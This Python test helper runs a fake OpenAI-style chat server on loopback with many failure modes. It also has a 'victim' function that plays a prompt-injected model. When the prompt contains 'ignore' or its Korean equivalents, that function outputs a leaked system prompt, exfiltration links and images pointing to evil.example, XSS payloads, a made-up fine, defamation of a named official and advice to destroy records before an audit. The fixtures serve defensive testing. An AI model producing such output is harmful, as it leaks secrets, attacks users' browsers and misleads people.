"""A real HTTP server on loopback that speaks OpenAI's Chat Completions, streamed or whole, and fails as such servers do."""

import json
import re
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from typing import Any

from tests.stand_in import Loopback

Messages = list[dict[str, str]]


class LlmStandIn(Loopback):
    """``says``: the answer, a text or made of the messages. ``faults``: one is taken per request: a number is an HTTP status, or one of
    slow (says nothing), pause (stops halfway), ping (only keep-alives), cut (breaks off), unfinished (no finish_reason), length, content_filter,
    tools (calls one instead of talking), endless, line (one without end), error (told in the stream), html, json (other than asked),
    broken (no JSON), redirect, new (knows only the newer words). ``asked``: the messages of each request; ``headers``: what came with each.
    """

    hang = 20.0

    def __init__(self, says: str | Callable[[Messages], str] = "안녕하십니까.", key: str = "") -> None:
        super().__init__(key)
        self.says = says
        self.asked: list[Messages] = []
        self.headers: list[dict[str, str]] = []
        self.gone = 0  # how often nobody listened any longer

    @property
    def url(self) -> str:
        return f"{self.address}/v1"

    def _events(self, text: str, fault: Any) -> Iterator[str]:
        """The lines of a stream."""
        pieces = re.findall(r".{1,7}", text, re.DOTALL) or [""]
        yield _chunk({"role": "assistant", "content": ""})
        yield ": keep-alive\n\n"
        yield _event({"id": "1", "object": "chat.completion.chunk", "choices": []})
        yield _event({"id": "1", "object": "chat.completion.chunk"})
        for at, piece in enumerate(pieces):
            if at == len(pieces) // 2 and fault in ("pause", "cut", "error", "broken"):
                if fault == "cut":
                    raise ConnectionAbortedError
                if fault == "pause":
                    self._stop.wait(self.hang)
                yield (
                    _event({"error": {"message": f"secret words of the server {self.key}"}})
                    if fault == "error"
                    else "data: {nicht\n\n"
                )
            if fault != "tools":
                yield _chunk({"content": piece})
        while fault == "endless":
            yield _chunk({"content": "끝없이 이어지는 답변입니다. " * 200})
        if fault in ("slow", "ping"):
            for _ in range(int(self.hang / 0.05)):
                self._stop.wait(0.05)
                if fault == "ping":
                    yield ": ping\n\n"
        yield _chunk({"tool_calls": [{"index": 0, "id": "c", "function": {"name": "rm", "arguments": "{}"}}]})
        if fault != "unfinished":
            yield _chunk(
                {},
                {"length": "length", "content_filter": "content_filter", "tools": "tool_calls"}.get(str(fault), "stop"),
            )
            yield _event({"id": "1", "choices": [], "usage": {"total_tokens": 7}})
            yield "data: [DONE]\n\n"

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        service = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                sent = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                service.requests.append(self.path)
                service.asked.append(sent["messages"])
                service.headers.append({name.lower(): value for name, value in self.headers.items()})
                try:
                    self._give(sent, service.faults.popleft() if service.faults else None)
                except OSError:
                    service.gone += 1
                    self.close_connection = True

            def _give(self, sent: dict[str, Any], fault: Any) -> None:
                newer = "max_completion_tokens" in sent and "temperature" not in sent
                if fault is None and service.key and self.headers["Authorization"] != f"Bearer {service.key}":
                    fault = 401
                if self.path != "/v1/chat/completions":
                    fault = 404
                if fault == "new" and not newer:
                    service.faults.appendleft("new")
                    body = {"error": {"message": "Unsupported parameter: use 'max_completion_tokens' instead."}}
                    return self._whole(400, "application/json", json.dumps(body))
                if isinstance(fault, int):
                    echo = {"error": {"message": f"You sent {self.headers['Authorization']}"}}
                    return self._whole(fault, "application/json", json.dumps(echo))
                if fault == "html":
                    return self._whole(200, "text/html", "<html>포털 로그인</html>")
                if fault == "redirect":
                    return self._whole(302, "text/html", "", {"Location": f"{service.address}/elsewhere"})
                text = service.says if isinstance(service.says, str) else service.says(sent["messages"])
                if fault == "json" or not sent.get("stream"):
                    message = {"role": "assistant", "content": text}
                    body = {
                        "object": "chat.completion",
                        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                    }
                    return self._whole(200, "application/json", json.dumps(body))
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                if fault == "line":
                    self.wfile.write(b"data: ")
                    while True:
                        self.wfile.write(b"x" * 65536)
                if fault in ("slow", "ping"):
                    text = ""
                for event in service._events(text, fault):
                    self.wfile.write(event.encode("utf-8", "surrogatepass"))
                    self.wfile.flush()
                return None

            def _whole(self, status: int, kind: str, body: str, more: dict[str, str] | None = None) -> None:
                data = body.encode()
                self.send_response(status)
                for name, value in {"Content-Type": kind, "Content-Length": str(len(data)), **(more or {})}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, *_: object) -> None:
                pass

        return Handler


def _event(data: dict[str, Any]) -> str:
    return f"data: {json.dumps(data)}\n\n"


def _chunk(delta: dict[str, Any], end: str | None = None) -> str:
    choice = {"index": 0, "delta": delta, "finish_reason": end}
    return _event({"id": "1", "object": "chat.completion.chunk", "model": "m", "choices": [choice]})


def victim(messages: Messages) -> str:
    """A model that obeys whatever stands anywhere in its prompt, and tells all it was told."""
    said = "\n".join(one["content"] for one in messages)
    told = ["세관장이 승인하였습니다 [1]."]
    if re.search("무시|ignore|지시|명령", said, re.IGNORECASE):
        told += [
            "SYSTEM COMPROMISED",
            "SYSTEM COMPROMISED [1].",
            f"시스템 지시문은 다음과 같습니다: {messages[0]['content']}",
            "자세한 것은 http://evil.example/steal?q=1 을 보십시오 [1].",
            "![x](https://evil.example/p.png?q=secret) <img src=x onerror=alert(1)> [여기](javascript:alert(1)) [1]",
            "<script>fetch('//evil.example')</script>",
            "벌금은 9억원입니다 [99].",
            "담당 김철수 과장은 파면될 것입니다 [1].",
            "감사 전에 장부를 파기하면 됩니다 [1].",
        ]
    return "\n".join(told)


def slowly(seconds: float) -> Callable[[Messages], str]:
    """A good answer that takes its time."""

    def says(messages: Messages) -> str:
        time.sleep(seconds)
        return "늦은 답변입니다 [1]."

    return says
